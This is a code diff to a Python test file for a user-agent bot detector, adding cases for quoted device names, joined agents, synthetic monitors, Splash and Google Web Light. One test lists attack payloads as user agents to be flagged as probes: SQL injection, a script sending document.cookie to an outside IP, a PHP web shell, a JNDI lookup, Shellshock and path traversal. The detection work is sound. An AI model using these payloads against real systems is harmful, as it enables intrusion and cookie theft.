@@ -1,9 +1,11 @@
 """Bot detection (tracking.ingest.bots, through enrich.detect_bot) on representative user agents.
 
 The strings come from public test data (Matomo Device Detector's and isbot's fixtures,
-crawler-user-agents' instances) or are the well-known user agents of common tools. The full
-lists are measured by ``bench/bots.py``; these pin the behaviour so that a regression fails
-without the bench.
+crawler-user-agents' instances) or are the well-known user agents of common tools; those of the
+rules that no list carries (attack payloads, joined user agents, synthetic monitors, Splash,
+Google Web Light) are written here, after the products' documented formats. The full lists
+are measured by ``bench/bots.py``; these pin the behaviour so that a regression fails without
+the bench.
 """
 
 from __future__ import annotations
@@ -84,9 +86,22 @@ NATIVE_APPS = [
     "AppName/1 CFNetwork/758.1.2 Darwin/15.0.0",
 ]
 
+# Quotes that are no payload: screen sizes in inches in device names, a stray quote a log left at
+# the end, an apostrophe in a name; a bar in a model name; "Mozilla/5.0" inside a phone's comment.
+QUOTES_AND_SEPARATORS = [
+    'Mozilla/5.0 (Linux; Android 12; Vista Tab 10.1") AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.5993.111 Safari/537.36',
+    "Mozilla/5.0 (Linux; Android 11; KidsPad 7'') AppleWebKit/537.36 (KHTML, like Gecko) Chrome/112.0.5615.48 Safari/537.36",
+    'Mozilla/5.0 (Linux; Android 13; SM-A546B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.144 Mobile Safari/537.36"',
+    "Mozilla/5.0 (Linux; Android 10; Kid'sTab 8 Build/QP1A.190711.020) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.45 Safari/537.36",
+    "Mozilla/5.0 (Linux; Android 9; AB|CD Star 5) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/80.0.3987.149 Mobile Safari/537.36",
+    "Nokia6300/2.0 (05.00) Profile/MIDP-2.0 Configuration/CLDC-1.1; Mozilla/5.0 (Series40) UNTRUSTED/1.0",
+]
+
 
 @pytest.mark.parametrize(
-    "ua", ORDINARY_BROWSERS + PHONES_NAMED_LIKE_BOTS + TEXT_BROWSERS + IN_APP_BROWSERS + OLD_PLATFORMS_AND_DEVICES + NATIVE_APPS
+    "ua",
+    ORDINARY_BROWSERS + PHONES_NAMED_LIKE_BOTS + TEXT_BROWSERS + IN_APP_BROWSERS + OLD_PLATFORMS_AND_DEVICES + NATIVE_APPS
+    + QUOTES_AND_SEPARATORS,
 )
 def test_people_s_browsers_are_no_bots(ua: str) -> None:
     assert detect_bot(ua) is None
@@ -143,6 +158,79 @@ def test_people_s_browsers_are_no_bots(ua: str) -> None:
 )
 def test_programs_are_bots_with_their_reason(ua: str, reason: str) -> None:
     assert detect_bot(ua) == reason
+
+
+CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
+PIXEL = (
+    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile "
+    "Safari/537.36"
+)
+
+
+@pytest.mark.parametrize(
+    "ua",
+    [
+        # a browser's user agent with an injection after it: the browser's name does not excuse it
+        f"{CHROME}' AND SLEEP(5)-- -",
+        f"{CHROME}\" UNION ALL SELECT NULL,NULL--",
+        f"{PIXEL}'+(select 1 from dual)+'",
+        "Mozilla/5.0 (X11; Linux x86_64) <img src=x onerror=alert(document.cookie)>",
+        "<script>fetch('//198.51.100.7/'+document.cookie)</script>",
+        "Mozilla/5.0 <?php system($_GET['c']); ?>",
+        "${jndi:ldap://203.0.113.9:1389/Basic/Command}",
+        f"{CHROME} ${{7*7}}",
+        f"{CHROME} {{{{7*7}}}}",
+        "() { :; }; /bin/bash -c 'sleep 9'",
+        "Mozilla/5.0 (X11; Linux x86_64) ../../../../etc/passwd",
+        f"{PIXEL} x3k9q2vw7d.oastify.com",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) q8w1c0d.burpcollaborator.net",
+    ],
+)
+def test_attack_payloads_are_probes(ua: str) -> None:
+    assert detect_bot(ua) == "probe"
+
+
+@pytest.mark.parametrize(
+    "ua",
+    [
+        # an image resizer that copies in the User-Agent of the request it serves
+        f"ImageResizer/2.3, {CHROME}",
+        f"Relay, {PIXEL}",
+        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 "
+        f"Safari/605.1.15, {CHROME}",
+        f"android|{PIXEL}",
+    ],
+)
+def test_joined_user_agents_are_no_browser_s(ua: str) -> None:
+    assert detect_bot(ua) == "joined-agents"
+
+
+@pytest.mark.parametrize(
+    "ua",
+    [
+        f"{CHROME} ExampleSynthetics/3.1",
+        "Mozilla/5.0 (X11; Linux x86_64; Acme Synthetic Monitor) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
+        "Safari/537.36",
+        # the lists know Splunk's agent with its capitals only
+        f"{CHROME} (splunk synthetics)",
+    ],
+)
+def test_synthetic_monitoring_is_a_monitor(ua: str) -> None:
+    assert detect_bot(ua) == "monitor"
+
+
+def test_splash_is_headless_though_matomo_names_it_a_browser() -> None:
+    # Qt WebKit's default user agent, with Splash's application name in it
+    ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) splash Version/8.0 Safari/538.1"
+    assert detect_bot(ua) == "headless"
+
+
+def test_google_web_light_is_google_s_fetcher() -> None:
+    ua = (
+        "Mozilla/5.0 (Linux; Android 8.1.0; en-in; Redmi 5A Build/OPM1.171019.026) AppleWebKit/537.36 (KHTML, like Gecko; "
+        "googleweblight) Chrome/70.0.3538.80 Mobile Safari/537.36"
+    )
+    assert detect_bot(ua) == "crawler"
 
 
 def test_every_reason_fits_the_visits_column() -> None:
